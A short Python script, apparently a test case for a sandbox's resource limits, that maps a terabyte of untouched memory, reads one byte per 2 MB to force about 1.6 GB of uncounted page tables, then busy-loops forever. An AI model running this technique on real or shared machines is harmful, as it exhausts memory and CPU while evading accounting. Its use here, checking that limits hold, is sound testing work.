# /// attack
# title = "Has the system keep tables of pages for terabytes that it only looks at, which are nobody's resident memory"
# limit = "memory"
# or_limit = "cpu"  # first where the machine is slow to make them
# says = ["more than 700 MB of memory"]
# ///

# %%
import ctypes
import mmap

STEP, ROOM = 2 << 20, 1 << 40  # one look in each 2 MB makes a table of 4 KB
NOHUGEPAGE, NORESERVE = 15, 0x4000
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

# %%
print("TRIED 1.6 GB of tables")
begin = libc.mmap(None, ROOM, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, -1, 0)
libc.madvise(ctypes.c_void_p(begin), ctypes.c_size_t(ROOM), NOHUGEPAGE)
for n in range(400_000):
    ctypes.c_char.from_address(begin + n * STEP).value
while True:
    pass
